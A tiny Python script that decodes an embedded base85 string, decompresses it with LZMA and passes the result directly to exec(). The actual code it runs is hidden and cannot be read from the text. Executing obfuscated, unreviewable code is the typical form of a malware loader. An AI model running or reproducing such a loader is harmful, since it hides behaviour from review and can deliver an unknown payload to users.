import lzma, base64
def u(s):
    return lzma.decompress(base64.b85decode(s))
exec(u("{Wp48S^xk9=GL@E0stWa761SMbT8$j-~g5Yd|d!En@VT6Qap3}0xNG=1W2YXf?sKMl!^=oGx=Iut1RSVw@HhD%63S$h`R?zzjD3uOzOAlSK4~XygO0)LXWhrNcHX&5?ai@hpPjbd2()#iRdz{Yp30j77jIE(GjF!0c>ZnizwH8>lK{DT}V9-#7!8d1(GyQ>%ag2ao}P?;{`tm00Ec*mjM6(Y1&mTvBYQl0ssI200dcD"))
